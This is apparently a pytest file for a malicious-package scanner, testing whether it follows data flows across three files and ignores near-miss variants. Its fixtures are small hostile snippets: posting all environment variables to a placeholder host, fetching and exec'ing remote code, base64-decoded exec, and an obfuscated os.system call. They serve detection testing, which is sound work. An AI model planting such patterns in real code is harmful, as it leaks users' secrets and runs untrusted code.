"""Flows whose source, carrier and sink lie in three files; and the same files with the flow broken."""

# ruff: noqa: E501 - a case reads as the file that it is

from __future__ import annotations

from typing import NamedTuple

import pytest

from assay.scanner.models import Severity
from tests.evasion.case import INIT, Case, findings, package_of, told, worst


class Three(NamedTuple):
    """Files by name below ``pkg``; ``broken`` are those that are replaced for the near miss."""

    name: str
    files: dict[str, str]
    broken: dict[str, str]


_SECRET = "import os\ndef secret():\n    return dict(os.environ)\n"
_HARMLESS = "import os\ndef secret():\n    return {'n': len(os.environ)}\n"
_SEND = "import requests\ndef send(data):\n    requests.post('https://example.invalid/a', json=data)\n"
_FETCH = "import urllib.request\ndef fetch():\n    return urllib.request.urlopen('https://example.invalid/a').read()\n"
_RUN = "def run(code):\n    exec(code)\n"
_PRINT = "def run(code):\n    print(code)\n"

FLOWS = (
    Three("relative imports", {
        "a.py": _SECRET, "b.py": _SEND, "__init__.py": "from .a import secret\nfrom .b import send\nsend(secret())\n",
    }, {"a.py": _HARMLESS}),
    Three("absolute imports", {
        "a.py": _FETCH, "b.py": _RUN, "c.py": "import pkg.a\nimport pkg.b\npkg.b.run(pkg.a.fetch())\n",
        "__init__.py": "",
    }, {"b.py": _PRINT}),
    Three("star imports", {
        "a.py": _FETCH, "b.py": "from .a import *\n", "__init__.py": "from .b import *\nexec(fetch())\n",
    }, {"__init__.py": "from .b import *\nprint(fetch())\n"}),
    Three("imports that pass names on", {
        "deep/a.py": _SECRET, "deep/__init__.py": "from .a import secret as collect\n", "b.py": _SEND,
        "__init__.py": "from pkg.deep import collect\nfrom pkg.b import send\nsend(collect())\n",
    }, {"__init__.py": "from pkg.deep import collect\nfrom pkg.b import send\nsend(len(collect()))\n"}),
    Three("the package passes on what its parts have", {
        "__init__.py": "from .a import fetch\nfrom .b import run\n", "a.py": _FETCH, "b.py": _RUN,
        "c.py": "import pkg\ndef main():\n    pkg.run(pkg.fetch())\n",
    }, {"c.py": "import pkg\ndef main():\n    pkg.fetch()\n    pkg.run('x = 1')\n"}),
    Three("a class in one file, its instance in another", {
        "a.py": "import os\nclass Collector:\n    def __init__(self):\n        self.found = dict(os.environ)\n",
        "b.py": "from .a import Collector\ncollector = Collector()\n",
        "__init__.py": "import requests\nfrom .b import collector\n"
        "requests.post('https://example.invalid/a', data=collector.found)\n",
    }, {"a.py": "import os\nclass Collector:\n    def __init__(self):\n        self.found = len(os.environ)\n"}),
    Three("a base class in another file", {
        "a.py": "import urllib.request\nclass Base:\n    def load(self):\n"
        "        return urllib.request.urlopen('https://example.invalid/a').read()\n",
        "b.py": "from .a import Base\nclass Child(Base):\n    def start(self):\n        exec(self.load())\n",
        "__init__.py": "from .b import Child\nChild().start()\n",
    }, {"a.py": "class Base:\n    def load(self):\n        return 'x = 1'\n"}),
    Three("an argument of a function", {
        "a.py": "import requests\ndef post(data):\n    requests.post('https://example.invalid/a', data=data)\n",
        "b.py": "from .a import post\ndef report(text, also):\n    post(text)\n",
        "__init__.py": "import os\nfrom .b import report\nreport(str(os.environ), 'a')\n",
    }, {"__init__.py": "import os\nfrom .b import report\nreport('a', str(os.environ))\n"}),
    Three("what a function gives", {
        "a.py": _FETCH, "b.py": "from . import a\ndef code():\n    data = a.fetch()\n    return data.decode()\n",
        "__init__.py": "from .b import code\nexec(compile(code(), 'a', 'exec'))\n",
    }, {"b.py": "from . import a\ndef code():\n    data = a.fetch()\n    return 'x = 1'\n"}),
    Three("a callback", {
        "a.py": "import urllib.request\ndef each(then):\n    then(urllib.request.urlopen('https://example.invalid/a').read())\n",
        "b.py": _RUN, "__init__.py": "from .a import each\nfrom .b import run\neach(run)\n",
    }, {"__init__.py": "from .a import each\nfrom .b import run\neach(print)\n"}),
    Three("an attribute of a module", {
        "a.py": "value = None\n", "b.py": "import os\nfrom . import a\na.value = str(os.environ)\n",
        "__init__.py": "import requests\nfrom . import b\nfrom . import a\n"
        "requests.post('https://example.invalid/a', data=a.value)\n",
    }, {"b.py": "import os\nfrom . import a\na.value = str(len(os.environ))\n"}),
    Three("an import that depends", {
        "a.py": _SECRET, "b.py": _SEND,
        "__init__.py": "import sys\nif sys.version_info > (3,):\n    from .a import secret\nelse:\n    secret = None\n"
        "try:\n    from .b import send\nexcept ImportError:\n    send = print\nsend(secret())\n",
    }, {"b.py": "def send(data):\n    print(data)\n"}),
    Three("an import inside of a function", {
        "a.py": _FETCH, "b.py": _RUN,
        "__init__.py": "def start():\n    from .a import fetch\n    from .b import run\n    run(fetch())\nstart()\n",
    }, {"__init__.py": "def start():\n    from .a import fetch\n    from .b import run\n    fetch()\n    run('x = 1')\nstart()\n"}),
    Three("an import by importlib", {
        "a.py": _FETCH, "b.py": _RUN,
        "__init__.py": "import importlib\nimportlib.import_module('.b', __name__).run(\n"
        "    importlib.import_module('pkg.a').fetch())\n",
    }, {"b.py": _PRINT}),
    Three("a list that one fills and another empties", {
        "a.py": "queue = []\n", "b.py": "import os\nfrom .a import queue\nqueue.append(str(os.environ))\n",
        "__init__.py": "import requests\nfrom . import b\nfrom .a import queue\n"
        "for item in queue:\n    requests.post('https://example.invalid/a', data=item)\n",
    }, {"b.py": "import os\nfrom .a import queue\nqueue.append(len(os.environ))\n"}),
    Three("a dict of functions", {
        "a.py": _RUN, "b.py": "from .a import run\nACTIONS = {'r': run, 'p': print}\n",
        "__init__.py": "import urllib.request\nfrom .b import ACTIONS\n"
        "ACTIONS['r'](urllib.request.urlopen('https://example.invalid/a').read())\n",
    }, {"__init__.py": "import urllib.request\nfrom .b import ACTIONS\n"
        "ACTIONS['p'](urllib.request.urlopen('https://example.invalid/a').read())\n"}),
    Three("a constant that is decoded elsewhere", {
        "a.py": "DATA = '<B64>'\n", "b.py": "import base64\ndef plain(text):\n    return base64.b64decode(text)\n",
        "__init__.py": "from .a import DATA\nfrom .b import plain\nexec(plain(DATA))\n",
    }, {"__init__.py": "from .a import DATA\nfrom .b import plain\nprint(plain(DATA))\n"}),
    Three("names in pieces in three files", {
        "a.py": "A = 'sys'\n", "b.py": "from .a import A\nB = A + 'tem'\n",
        "__init__.py": "import os\nfrom .b import B\ngetattr(os, B)('id')\n",
    }, {"a.py": "A = 'get_sys'\n", "__init__.py": "import os\nfrom .b import B\nprint(B)\n"}),
    Three("a decorator", {
        "a.py": "def run_it(function):\n    exec(function())\n    return function\n",
        "b.py": _FETCH, "__init__.py": "from .a import run_it\nfrom .b import fetch\nrun_it(fetch)\n",
    }, {"a.py": "def run_it(function):\n    function()\n    return function\n"}),
    Three("a circle of imports", {
        "a.py": "from . import b\nimport os\ndef secret():\n    return str(os.environ)\n",
        "b.py": "import requests\nfrom . import a\ndef send():\n    requests.post('https://example.invalid/a', data=a.secret())\n",
        "__init__.py": "from .b import send\nsend()\n",
    }, {"b.py": "import requests\nfrom . import a\ndef send():\n    a.secret()\n    requests.post('https://example.invalid/a')\n"}),
)  # fmt: skip


def case_of(name: str, files: dict[str, str]) -> Case:
    paths = {f"pkg/{path}": text for path, text in files.items()}
    return Case(name, Severity.HIGH, paths.pop(INIT), files=paths)


@pytest.mark.parametrize("every", [True, False], ids=["all read", "prefiltered"])
@pytest.mark.parametrize("flow", FLOWS, ids=[flow.name for flow in FLOWS])
def test_a_flow_through_three_files_is_seen(flow: Three, every: bool) -> None:
    found = findings(package_of(case_of(flow.name, flow.files), every=every))
    most = worst(found)
    assert most is not None, "nothing"
    assert most.at_least(Severity.HIGH), told(found)


@pytest.mark.parametrize("every", [True, False], ids=["all read", "prefiltered"])
@pytest.mark.parametrize("flow", FLOWS, ids=[flow.name for flow in FLOWS])
def test_the_same_files_without_the_flow_are_not_stopped(flow: Three, every: bool) -> None:
    found = findings(package_of(case_of(flow.name, flow.files | flow.broken), every=every))
    most = worst(found)
    assert most is None or not most.at_least(Severity.HIGH), told(found)
